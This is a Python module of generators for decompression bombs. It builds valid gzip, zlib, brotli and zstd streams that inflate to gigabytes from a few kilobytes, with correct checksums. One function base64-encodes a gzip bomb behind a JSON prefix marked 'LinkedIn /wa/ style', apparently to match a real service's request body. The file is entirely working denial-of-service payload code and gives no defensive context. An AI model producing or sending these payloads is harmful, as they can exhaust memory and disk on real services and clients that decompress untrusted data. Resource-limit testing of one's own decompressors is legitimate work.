"""Decompression bombs built cheaply: a deflate block of one repeated byte, flushed so that the
compressor's state resets, is the same bytes every time, so a gigabyte costs one megabyte of
compression work and about a kilobyte per repeated megabyte on disk."""

from __future__ import annotations

import base64
import struct
import zlib

import brotli
import zstandard

MB = 1 << 20


def _deflate(prefix: bytes, fill: bytes, size: int, suffix: bytes) -> tuple[bytes, list[bytes]]:
    """Raw deflate of prefix + fill * size + suffix, and the parts the checksums run over."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = fill * MB
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    n, rest = divmod(size, MB)
    tail = c.compress(fill * rest + suffix) + c.flush()
    return head + block * n + tail, [prefix, *([chunk] * n), fill * rest + suffix]


def gzip_bomb(size: int, prefix: bytes = b"", suffix: bytes = b"", fill: bytes = b"a") -> bytes:
    """A valid gzip member that inflates to len(prefix) + size + len(suffix) bytes."""
    body, parts = _deflate(prefix, fill, size, suffix)
    crc, total = 0, 0
    for p in parts:
        crc, total = zlib.crc32(p, crc), total + len(p)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body + struct.pack("<II", crc, total & 0xFFFFFFFF)


def zlib_bomb(size: int, prefix: bytes = b"", suffix: bytes = b"", fill: bytes = b"a") -> bytes:
    """A valid zlib stream (the `.zhar` format) that inflates to prefix + size bytes + suffix."""
    body, parts = _deflate(prefix, fill, size, suffix)
    adler = 1
    for p in parts:
        adler = zlib.adler32(p, adler)
    return b"\x78\xda" + body + struct.pack(">I", adler)


def brotli_bomb(size: int, prefix: bytes = b"", fill: bytes = b"\0") -> bytes:
    """prefix + size bytes (whole megabytes); 1 GiB is 1.6 KB and takes a second to build."""
    c = brotli.Compressor(quality=5)
    chunk = fill * MB
    return c.process(prefix) + b"".join(c.process(chunk) for _ in range(size // MB)) + c.finish()


def zstd_bomb(size: int, prefix: bytes = b"", fill: bytes = b"\0") -> bytes:
    c = zstandard.ZstdCompressor().compressobj()
    chunk = fill * MB
    return c.compress(prefix) + b"".join(c.compress(chunk) for _ in range(size // MB)) + c.flush()


def b64_gzip_bomb(size: int, prefix: bytes = b'{"pids":[1],"signalType":"PAGE_VISIT","x":"') -> bytes:
    """LinkedIn /wa/ style: base64 text of a gzip body."""
    return base64.b64encode(gzip_bomb(size, prefix, b'"}'))
